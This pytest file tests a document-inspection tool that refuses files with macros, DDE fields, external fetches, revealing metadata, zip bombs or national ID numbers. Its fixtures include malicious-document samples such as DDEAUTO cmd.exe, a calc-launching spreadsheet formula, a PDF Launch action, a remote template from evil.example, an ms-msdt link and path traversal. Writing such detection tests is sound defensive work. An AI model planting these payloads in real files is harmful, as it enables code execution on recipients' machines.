"""Files as they come: whole ones pass, and each of these is refused for what is inside it."""

# ruff: noqa: E501 - a table reads best with one row per example

import struct
import time
import zlib

import files_inside as make
import pytest

from veileder.checks.inside import faults_of, personal
from veileder.inspecting.inspect import inspected
from veileder.persons.identity import is_national_id

_WAY = '<Relationship Id="r" Type="http://x/{}" Target="{}" TargetMode="External"/>'
_FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
_MAKER = '<p xmlns:dc="d" xmlns:cp="c"><{0}>{1}</{0}></p>'
_LEFT = "01017012345"  # no number of anybody: its control digits are wrong


def _docx(inside="", rels="", **more):
    return make.word(
        inside,
        rels,
        **{
            n.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): c
            for n, c in more.items()
        },
    )


def _rezipped(content, old, new):
    return content.replace(old, new)


def _bomb(size):
    """Return a zip of one part that says that it is ``size`` when it is unpacked."""
    content = make.zipped({"[Content_Types].xml": "x"})
    at = content.index(b"PK\x01\x02") + 24
    return content[:at] + struct.pack("<I", size) + content[at + 4 :]


def _locked(content):
    """Return a zip that says that its parts have a password."""
    at = content.index(b"PK\x01\x02")
    return content[:6] + b"\x01" + content[7 : at + 8] + b"\x01" + content[at + 9 :]


_ENTITY = '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><d>&b;</d>'
_LAUNCH = b"<</S /Launch /F (cmd.exe)>>"
BAD = [
    # what it is
    ("docx", b"", "VEDL01", "tom"),
    ("docx", b"MZ\x90", "VEDL01", "ikke en Word-fil"),
    ("pdf", b"<html><script>", "VEDL01", "ikke en PDF"),
    ("pdf", b"\n" + make.pdf(), "VEDL01", "ikke en PDF"),
    ("png", make.jpg(), "VEDL01", "ikke et PNG-bilde"),
    ("jpg", make.png(), "VEDL01", "ikke et JPG-bilde"),
    ("webp", make.jpg(), "VEDL01", "ikke et WebP-bilde"),
    ("jpg", b"GIF89a", "VEDL01", "ikke et JPG-bilde"),
    ("png", b"<svg/>", "VEDL01", "ikke et PNG-bilde"),
    ("xlsx", make.office("docx"), "VEDL01", "mangler det"),
    ("odt", make.open_document("ods"), "VEDL01", "mangler det"),
    ("docx", make.open_document("odt"), "VEDL01", "mangler det"),
    ("doc", make.old("xls"), "VEDL01", "mangler det"),
    ("docx", make.zipped({"a.txt": "x"}), "VEDL01", "mangler det"),
    # not whole
    ("docx", make.office()[:-30], "VEDL01", "slutten mangler"),
    ("docx", make.office() + b"<script>", "VEDL01", "etter slutten"),
    ("docx", make.office()[:70] + b"\xff\xff\xff" + make.office()[73:], "VEDL01", "skadet"),
    ("docx", _docx(word__x_xml="<a><b></a>"), "VEDL01", "kan ikke leses"),
    ("docx", _docx(word__x_xml=_ENTITY), "VEDL01", "ENTITY"),
    ("docx", _docx(word__x_xml="<a>" * 300 + "</a>" * 300), "VEDL01", "nivåer"),
    ("docx", make.zipped({"../../etc/x": "x", "[Content_Types].xml": "x"}), "VEDL01", "fører ut"),
    ("docx", make.zipped({"[Content_Types].xml": "x"}, 12), "VEDL01", "uvanlig"),
    ("pdf", make.pdf()[:-8], "VEDL01", "slutten mangler"),
    ("pdf", make.pdf() + b"PK\x03\x04" * 40, "VEDL01", "etter slutten"),
    ("pdf", b"%PDF-1.7\n%%EOF", "VEDL01", "ingen sider"),
    ("pdf", make.pdf(b"<</Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream"), "VEDL01", "ikke hel"),
    ("pdf", make.pdf(b"<</Filter /LZWDecode /Length 4>>\nstream\nabcd\nendstream"), "VEDL01", "gammel måte"),
    ("png", make.png()[:-9], "VEDL01", "ikke helt"),
    ("png", make.png().replace(b"IDAT", b"IDAX"), "VEDL01", "ikke helt"),
    ("png", make.png(rows=b"\0\0\0"), "VEDL01", "ikke helt"),
    ("png", make.png(width=0), "VEDL01", "ingen størrelse"),
    ("jpg", make.jpg()[:-2], "VEDL01", "ikke helt"),
    ("jpg", b"\xff\xd8\xff\xe0\xff", "VEDL01", "ikke helt"),
    ("webp", make.webp()[:-4], "VEDL01", "ikke helt"),
    ("webp", make.webp((b"ANIM", b"\0" * 6)), "VEDL01", "beveger seg"),
    ("doc", make.old()[:700], "VEDL01", "skadet"),
    # locked
    ("docx", _locked(make.office()), "VEDL02", "passord"),
    ("docx", make.old("doc", "EncryptedPackage"), "VEDL02", "passord"),
    ("xlsx", make.old("xls", "EncryptedPackage"), "VEDL02", "passord"),
    ("doc", make.old("doc", main=b"\0" * 10 + b"\0\x01"), "VEDL02", "passord"),
    ("xls", make.old("xls", main=struct.pack("<HHI", 0x809, 4, 0) + struct.pack("<HH", 0x2F, 2)), "VEDL02", "passord"),
    ("odt", make.open_document("odt", **{"META-INF/manifest.xml": "<m:encryption-data/>"}), "VEDL02", "passord"),
    ("pdf", make.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 9 0 R"), "VEDL02", "passord"),
    ("pdf", make.pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /En#63rypt <</Filter /Standard>>"), "VEDL02", "passord"),
    # programs
    ("docx", _docx(word__vbaProject_bin="x"), "VEDL03", "makroer"),
    ("docx", make.zipped({"[Content_Types].xml": '<T><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></T>', "word/document.xml": "<d/>"}), "VEDL03", "makroer"),
    ("docx", _docx(word__activeX__activeX1_xml="<a/>"), "VEDL03", "makroer"),
    ("docx", _docx(word__embeddings__oleObject1_bin="x"), "VEDL03", "annen fil"),
    ("docx", _docx(**{"word/media/a.png": "MZ\x90"}), "VEDL03", "annen fil"),
    ("docx", _docx("<w:object><o:OLEObject xmlns:o='o'/></w:object>"), "VEDL03", "annen fil"),
    ("docx", _docx(rels='<Relationship Type="http://x/aFChunk" Target="a.htm"/>'), "VEDL03", "annen fil"),
    ("docx", _docx(_FIELD.format("DDEAUTO c:\\\\cmd.exe")), "VEDL03", "DDE"),
    ("docx", _docx(_FIELD.format("DD") + _FIELD.format("EAUTO c:\\\\x")), "VEDL03", "DDE"),
    ("docx", _docx('<w:fldSimple w:instr="DDE excel a"/>'), "VEDL03", "DDE"),
    ("xlsx", make.office("xlsx", xl__sheet1_xml="<s><f>cmd|' /C calc'!A0</f></s>"), "VEDL03", "DDE"),
    ("xlsx", make.office("xlsx", xl__macrosheets__s_xml="<s/>"), "VEDL03", "makroer"),
    ("doc", make.old("doc", "VBA"), "VEDL03", "makroer"),
    ("xls", make.old("xls", "_VBA_PROJECT_CUR"), "VEDL03", "makroer"),
    ("doc", make.old("doc", "ObjectPool"), "VEDL03", "annen fil"),
    ("odt", make.open_document("odt", **{"Basic/Standard/m.xml": "<m/>"}), "VEDL03", "makroer"),
    ("odt", make.open_document("odt", '<script:event-listener xmlns:script="s"/>'), "VEDL03", "trykker"),
    ("ods", make.open_document("ods", "<text:dde-connection/>"), "VEDL03", "DDE"),
    ("odt", make.open_document("odt", **{"Object 1": b"\xd0\xcf\x11\xe0"}), "VEDL03", "annen fil"),
    ("pdf", make.pdf(b"<</S /JavaScript /JS (app.alert)>>"), "VEDL03", "JavaScript"),
    ("pdf", make.pdf(b"<</S /Java#53cript /J#53 (x)>>"), "VEDL03", "JavaScript"),
    ("pdf", make.pdf(_LAUNCH), "VEDL03", "starter"),
    ("pdf", make.pdf(b"<</EmbeddedFiles 9 0 R>>"), "VEDL03", "annen fil"),
    ("pdf", make.pdf(page=b"/AA <</O 9 0 R>>"), "VEDL03", "av seg selv"),
    ("pdf", make.pdf(b"<</Type /Catalog /OpenAction <</S /URI>>>>"), "VEDL03", "OpenAction"),
    ("pdf", make.pdf(b"<</OpenAction 6 0 R>>", b"<</S /Named>>"), "VEDL03", "OpenAction"),
    ("pdf", make.pdf(b"<</Subtype /RichMedia>>"), "VEDL03", "film"),
    ("pdf", make.pdf(b"<</AcroForm <</XFA 9 0 R>>>>"), "VEDL03", "skjema"),
    ("pdf", make.pdf(b"<</Type /ObjStm /N 1 /First 4 /Length 32>>\nstream\n9 0 " + _LAUNCH + b"\nendstream"), "VEDL03", "starter"),
    # fetches
    ("docx", _docx(rels=_WAY.format("attachedTemplate", "https://evil.example/t.dotm")), "VEDL04", "mal"),
    ("docx", _docx(rels=_WAY.format("attachedTemplate", "file:///C:\\Users\\kari\\t.dotx")), "VEDL04", "mal"),
    ("docx", _docx(rels=_WAY.format("image", "https://evil.example/p.png")), "VEDL04", "bilde"),
    ("docx", _docx(rels=_WAY.format("oleObject", "\\\\server\\x")), "VEDL04", "annen fil"),
    ("docx", _docx(rels=_WAY.format("hyperlink", "file:///P:/elever.xlsx")), "VEDL04", "lenke til en fil"),
    ("docx", _docx(rels=_WAY.format("hyperlink", "ms-msdt:/id")), "VEDL04", "lenke til en fil"),
    ("docx", _docx(_FIELD.format('INCLUDEPICTURE "http://e/x"')), "VEDL04", "felt"),
    ("xlsx", make.office("xlsx", **{"xl/externalLinks/_rels/e.xml.rels": "<R>" + _WAY.format("externalLinkPath", "a.xlsx") + "</R>"}), "VEDL04", "arbeidsbok"),
    ("odt", make.open_document("odt", '<draw:image x:href="https://e.example/a.png"/>'), "VEDL04", "bilde"),
    ("odt", make.open_document("odt", '<text:a x:href="file:///P:/x.odt"/>'), "VEDL04", "lenke til en fil"),
    ("odt", make.open_document("odt", **{"meta.xml": '<o xmlns:m="m" xmlns:x="x"><m:template x:href="file:///t.ott"/></o>'}), "VEDL04", "mal"),
    ("pdf", make.pdf(b"<</S /GoToR /F (b.pdf)>>"), "VEDL04", "annen fil"),
    ("pdf", make.pdf(b"<</S /URI /URI (file:///P:/a)>>"), "VEDL04", "enn nettet"),
    ("pdf", make.pdf(b"<</S /URI /URI (java\\163cript:x)>>"), "VEDL04", "enn nettet"),
    # tells
    ("docx", _docx(docProps__core_xml=_MAKER.format("dc:creator", "Kari Nordmann")), "VEDL05", "laget den"),
    ("docx", _docx(docProps__core_xml=_MAKER.format("cp:lastModifiedBy", "kno")), "VEDL05", "sist endret"),
    ("docx", _docx(docProps__app_xml="<p><Manager>Ola Nordmann</Manager></p>"), "VEDL05", "leder"),
    ("xlsx", make.office("xlsx", docProps__app_xml="<p><Company>Privat</Company></p>"), "VEDL05", "arbeidsplass"),
    ("docx", _docx(word__comments_xml="<w:c xmlns:w='w'><w:comment>x</w:comment></w:c>"), "VEDL05", "merknader"),
    ("xlsx", make.office("xlsx", xl__comments1_xml="<c><comment/></c>"), "VEDL05", "merknader"),
    ("pptx", make.office("pptx", ppt__comments__comment1_xml="<c><cm/></c>"), "VEDL05", "merknader"),
    ("docx", _docx("<w:p><w:del w:author='Kari'/></w:p>"), "VEDL05", "sporede"),
    ("docx", _docx(**{"word/media/a.jpg": make.jpg((0xE1, make.exif((0x8825, 8))))}), "VEDL05", "hvor det er tatt"),
    ("doc", make.old(author="Kari Nordmann"), "VEDL05", "laget eller endret"),
    ("odt", make.open_document("odt", **{"meta.xml": "<o xmlns:d='d'><d:creator>Kari Nordmann</d:creator></o>"}), "VEDL05", "laget eller endret"),
    ("odt", make.open_document("odt", "<office:annotation/>"), "VEDL05", "merknader"),
    ("odt", make.open_document("odt", "<text:changed-region/>"), "VEDL05", "sporede"),
    ("pdf", make.pdf(b"<</Author (Kari Nordmann)>>"), "VEDL05", "laget den"),
    ("pdf", make.pdf(b"<</Author <FEFF004B006100720069>>>"), "VEDL05", "laget den"),
    ("pdf", make.pdf(b"<</Type /Annot /Subtype /Highlight /T (Kari)>>"), "VEDL05", "merknader"),
    ("pdf", make.pdf(b"<</Type /Metadata /Length 80>>\nstream\n<x:xmpmeta><dc:creator><rdf:li>Kari Nordmann</rdf:li></dc:creator>\nendstream"), "VEDL05", "laget den"),
    # too much
    ("docx", _bomb(33 << 20), "VEDL06", "en del på mer enn"),
    ("docx", _bomb(9 << 20), "VEDL06", "fylle maskinen"),
    ("docx", make.zipped({"[Content_Types].xml": "x", **{f"{n}": "" for n in range(3001)}}), "VEDL06", "3000 deler"),
    ("pdf", make.pdf(content=b" " * (17 << 20)), "VEDL06", "16 MB"),
    ("png", make.png(rows=b"\0" * (8 << 20)), "VEDL06", "større enn det sier"),
    ("png", make.png(width=60_000, height=60_000, rows=b""), "VEDL06", "60000"),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "content", "code", "words"), BAD, ids=map(str, range(len(BAD))))
def test_what_is_inside_is_said(suffix, content, code, words):
    found = inspected(content, suffix).flaws

    assert any(one.code == code and words in one.message for one in found), found
    assert all(one.cure.endswith(".") and "Kari" not in one.message for one in found)


_ONE = 'xmlns:w="w"'
GOOD = [
    *make.WHOLE.items(),
    ("docx", _docx(docProps__core_xml=_MAKER.format("dc:creator", "Åsnes kommune"))),
    ("docx", _docx(docProps__core_xml=_MAKER.format("dc:creator", ""))),
    ("docx", _docx(docProps__core_xml=_MAKER.format("dc:creator", "Microsoft Office-bruker"))),
    ("docx", _docx(rels=_WAY.format("hyperlink", "https://www.udir.no/"))),
    ("docx", _docx(rels=_WAY.format("hyperlink", "mailto:post@example.no"))),
    ("docx", _docx(_FIELD.format(' HYPERLINK "https://example.no" ') + _FIELD.format(" PAGE "))),
    ("docx", _docx("<w:p>Send med DDE</w:p>")),
    ("docx", _docx(word__comments_xml="<w:comments xmlns:w='w'/>")),
    ("odt", make.open_document("odt", '<draw:image x:href="Pictures/a.png"/>')),
    ("odt", make.open_document("odt", '<text:a x:href="https://example.no"/>')),
    ("pdf", make.pdf(b"<</OpenAction [3 0 R /XYZ null null 0]>>")),
    ("pdf", make.pdf(b"<</OpenAction <</S /GoTo /D [3 0 R /Fit]>>>>")),
    ("pdf", make.pdf(b"<</Author (Sogndal kommune)>>")),
    ("pdf", make.pdf(b"<</S /URI /URI (https://example.no/a)>>")),
    ("pdf", make.pdf(b"<</Title (Om /JavaScript og /Launch)>>")),
    ("pdf", make.pdf() + b"\r\n\0\0"),
    ("pdf", make.pdf(b"<</Type /Annot /Subtype /Link>>")),
    ("jpg", make.jpg((0xE1, make.exif((0x8825, 8))))),
    ("png", make.png((b"tEXt", b"Author\0Kari Nordmann"))),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "content"), GOOD, ids=map(str, range(len(GOOD))))
def test_what_offices_have_passes(suffix, content):
    found = inspected(content, suffix)

    assert [*faults_of(found)] == []


_FONT = b"<</Type /Font /Subtype /Type0 /ToUnicode 6 0 R>>"
_TABLE = b"<</Length 99>>\nstream\n1 beginbfrange <0001> <000A> <0030> endbfrange\nendstream"


def _valid():
    """Return a number with the right control digits, which is nowhere in the source."""
    return next(n for n in (f"010170{tail:05}" for tail in range(99_999)) if is_national_id(n))


_ID = _valid()
_DRAWN = b"BT /F1 9 Tf " + b"".join(b"5 0 Td <%04X> Tj " % (1 + int(n)) for n in _ID) + b"ET"
_FONTS = b"/Resources <</Font <</F1 5 0 R>>>>"
SAID = [
    ("docx", _docx(f"<w:p><w:r><w:t>{_ID}</w:t></w:r></w:p>")),
    ("docx", _docx(f"<w:p><w:r><w:t>{_ID[:4]}</w:t></w:r><w:r><w:t>{_ID[4:]}</w:t></w:r></w:p>")),
    ("docx", _docx(word__header1_xml=f"<w:p xmlns:w='w'>{_ID[:6]}\u00a0{_ID[6:]}</w:p>")),
    ("docx", _docx(docProps__custom_xml=f"<p>{_ID}</p>")),
    ("docx", _docx(f"<w:p><w:docPr xmlns:w='w' descr='fnr {_ID}'/></w:p>")),
    ("xlsx", make.office("xlsx", xl__sharedStrings_xml=f"<s><si><t>{_ID}</t></si></s>")),
    ("xlsx", make.office("xlsx", xl__sheet1_xml=f"<s><c><v>{_ID}</v></c></s>")),
    ("pptx", make.office("pptx", ppt__notesSlides__n1_xml=f"<a:p xmlns:a='a'>{_ID}</a:p>")),
    ("odt", make.open_document("odt", f"<text:p>{_ID[:6]} {_ID[6:]}</text:p>")),
    ("doc", make.old(main=b"\0" * 600 + _ID.encode("utf-16-le"))),
    ("doc", make.old(main=b"\0" * 600 + _ID.encode("cp1252"))),
    ("pdf", make.pdf(content=f"BT ({_ID}) Tj ET".encode())),
    ("pdf", make.pdf(content=f"BT [({_ID[:3]}) 20 ({_ID[3:]})] TJ ET".encode())),
    ("pdf", make.pdf(_FONT, _TABLE, page=_FONTS, content=_DRAWN)),
    ("pdf", make.pdf(f"<</V ({_ID})>>".encode())),
    ("pdf", make.pdf(b"<</Title <FEFF" + _ID.encode("utf-16-be").hex().encode() + b">>>")),
    ("png", make.png((b"tEXt", b"Comment\0" + _ID.encode()))),
    ("png", make.png((b"zTXt", b"Comment\0\0" + zlib.compress(_ID.encode())))),
    ("jpg", make.jpg((0xFE, _ID.encode()))),
    ("webp", make.webp((b"XMP ", _ID.encode()))),
    ("docx", _docx("<w:p>Skriv til kari.nordmann@gmail.com</w:p>")),
]  # fmt: skip


@pytest.mark.parametrize(("suffix", "content"), SAID, ids=map(str, range(len(SAID))))
def test_what_names_a_person_is_found_wherever_it_stands(suffix, content):
    found = inspected(content, suffix)
    said = [*personal(found.words)]

    assert [one.code for one in said] in (["PERS01"], ["KONT02"])
    assert _ID not in str(said) and "gmail" not in str(said)


HARD = {
    "many paragraphs": ("docx", lambda: make.word("<w:p/>" * 300_000)),
    "many addresses": ("docx", lambda: make.word("a@" * 900_000)),
    "open brackets": ("pdf", lambda: make.pdf(content=b"BT" + b"(" * 500_000)),
    "digits": ("pdf", lambda: make.pdf(content=b"BT" + b"9" * 2_000_000)),
    "dictionaries": ("pdf", lambda: make.pdf(b"/Font <<" * 200_000)),
    "filters": ("pdf", lambda: make.pdf(b"/Filter [" * 300_000)),
    "objects without end": ("pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 90_000 + b"%%EOF"),
    "no points": ("jpg", lambda: make.jpg()[:-2] + b"\xff\x00" * 2_000_000),
}


@pytest.mark.parametrize("name", HARD)
def test_no_file_takes_long(name):
    suffix, content = HARD[name][0], HARD[name][1]()
    start = time.process_time()

    [*personal(inspected(content, suffix).words)]
    assert time.process_time() - start < 2


def test_the_name_of_a_maker_is_told_of_once_and_a_name_in_the_words_after_it():
    told = _docx(docProps__core_xml=_MAKER.format("dc:creator", "Kari Nordmann"))
    named = _docx("<w:p><w:t>Kontakt Kari Nordmann for mer</w:t></w:p>")

    assert [one.code for one in faults_of(inspected(told, "docx"))] == ["VEDL05"]
    assert [one.code for one in faults_of(inspected(named, "docx"))] == ["PERS05"]
